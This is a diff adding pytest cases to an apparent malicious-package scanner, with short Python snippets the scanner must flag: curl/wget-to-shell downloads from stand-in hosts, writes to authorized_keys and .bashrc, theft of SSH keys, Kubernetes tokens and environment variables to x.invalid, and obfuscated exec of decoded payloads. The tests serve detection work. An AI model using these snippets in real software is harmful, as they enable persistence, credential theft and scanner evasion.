@@ -344,3 +344,88 @@ def test_setuptools_plugin_entry_points_run_in_every_later_build(tmp_path: Path)
         },
     )
     assert not _rules(found)
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [
+        # paths and commands built from pieces
+        ("from pathlib import Path\n"
+         "Path.home().joinpath('.ssh', '_'.join(['authorized', 'keys'])).open('a').write('k')\n",
+         "persistence-write"),
+        ("import os\np = os.path.join(os.environ.get('HOME', '/'), '.ba' + 'shrc')\n"
+         "fd = os.open(p, os.O_WRONLY | os.O_APPEND)\n", "persistence-write"),
+        ("import subprocess\nURL = 'http://198.51.100.7/i.sh'\n"
+         "cmd = ' '.join(['cu' + 'rl', URL, '|', 's' + 'h'])\nsubprocess.call(cmd, shell=True)\n",
+         "process-download"),
+        ("import subprocess\nsubprocess.Popen(['sh', '-c', 'wget -qO- https://x.invalid | sh'])\n",
+         "process-download"),
+        ("import subprocess\n(lambda c: subprocess.call(c, shell=True))('curl x.invalid | sh')\n",
+         "process-download"),
+        ("import functools, subprocess\n_run = functools.partial(subprocess.run, shell=True)\n"
+         "_run('curl x.invalid | sh')\n", "process-download"),
+        ("import subprocess\ndef _up():\n    subprocess.call('curl x.invalid | sh', shell=True)\n"
+         "_HOOKS = {'init': _up}\n_HOOKS['init']()\n", "process-download"),
+        # exec and deserialisation sinks
+        ("import base64, timeit\ntimeit.timeit(base64.b64decode('cHJpbnQoMSk=').decode(), number=1)\n",
+         "exec-decoded"),
+        ("import base64\nlist(map(exec, [base64.b64decode('cHJpbnQoMSk=')]))\n", "exec-decoded"),
+        ("import base64, io, pickle\n"
+         "pickle.Unpickler(io.BytesIO(base64.b64decode('gAROLg=='))).load()\n", "unpickle-decoded"),
+        ("import base64\n_r = __builtins__['exec'] if isinstance(__builtins__, dict) "
+         "else getattr(__builtins__, 'exec')\n_r(base64.b64decode('cHJpbnQoMSk='))\n",
+         "exec-decoded"),
+        # decoders
+        ("T = str.maketrans('abc', 'cab')\nexec('cevag(1)'.translate(T))\n", "exec-decoded"),
+        ("exec((0x7072696e74283129).to_bytes(8, 'big'))\n", "exec-decoded"),
+        ("import os\nraw = open(os.path.join(os.path.dirname(__file__), 'a.wav'), 'rb').read()\n"
+         "exec(bytes(b ^ 0x5A for b in raw[44:]))\n", "exec-decoded"),
+        ("exec(bytes(b ^ 0x20 for b in b'PRINT\\x08\\x11\\t\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00'))\n",
+         "exec-decoded"),
+        ("import subprocess, sys, base64\n_c = base64.b64decode('cHJpbnQoMSk=')\n"
+         "subprocess.Popen([sys.executable], stdin=subprocess.PIPE).communicate(_c)\n",
+         "process-decoded"),
+        # sources
+        ("import socket\nsocket.create_connection(('x.invalid', 443)).sendall("
+         "open('/proc/self/environ', 'rb').read())\n", "exfil-credentials"),
+        ("import urllib.request\nt = open('/var/run/secrets/kubernetes.io/serviceaccount/token')"
+         ".read()\nurllib.request.urlopen('https://x.invalid/t', data=t.encode())\n",
+         "exfil-credentials"),
+        ("import glob, os, urllib.request\nfor k in glob.glob(os.path.expanduser('~/.*/id_*')):\n"
+         "    urllib.request.urlopen('https://x.invalid/k', data=open(k, 'rb').read())\n",
+         "exfil-credentials"),
+        # calls the analysis follows
+        ("import socket\n\ndef try_call(f, *a):\n    try:\n        return f(*a)\n"
+         "    except Exception:\n        return ''\n\n"
+         "socket.gethostbyname(try_call(socket.getfqdn) + '.x.invalid')\n", "exfil-host"),
+        ("from urllib.request import urlopen\n\n"
+         "def configure(settings=urlopen('https://x.invalid/c').read()):\n    return settings\n\n"
+         "exec(configure())\n", "exec-download"),
+        ("import getpass, urllib.request, weakref, sys\n\ndef _beacon():\n"
+         "    urllib.request.urlopen('https://x.invalid/?u=' + getpass.getuser())\n\n"
+         "weakref.finalize(sys.modules[__name__], _beacon)\n", "exfil-host"),
+    ],
+)  # fmt: skip
+def test_built_strings_sinks_sources_and_calls_the_flow_follows(
+    tmp_path: Path, source: str, rule: str
+) -> None:
+    found = _wheel(tmp_path, {"demo/core.py": source})
+    assert rule in {r for r, _file, _line in _rules(found)}, found
+
+
+def test_library_functions_and_literal_strings_do_not_become_sinks(tmp_path: Path) -> None:
+    source = (
+        "import os, subprocess, timeit\n"
+        "HOME = os.path.join(os.path.expanduser('~'), '.config', 'demo')\n"
+        "NAME = ' '.join(['demo', 'tool'])\n"
+        "subprocess.run(['bash', '-c', 'echo ' + NAME])\n"
+        "timeit.timeit('x = 1', number=1)\n"
+        "sorted(map(str, [1, 2]), key=len)\n"
+        "os.open(os.path.join(HOME, 'state'), os.O_RDONLY)\n"
+        # field arithmetic fed to a formatter (grpcio's make_curve25519_tables.py)
+        "table = [str((i * 19) ^ 0xFF) for i in range(8)]\n"
+        "proc = subprocess.Popen(['clang-format'], stdin=subprocess.PIPE)\n"
+        "proc.communicate(','.join(table).encode())\n"
+    )
+    found = _wheel(tmp_path, {"demo/core.py": source})
+    assert not _rules(found), found
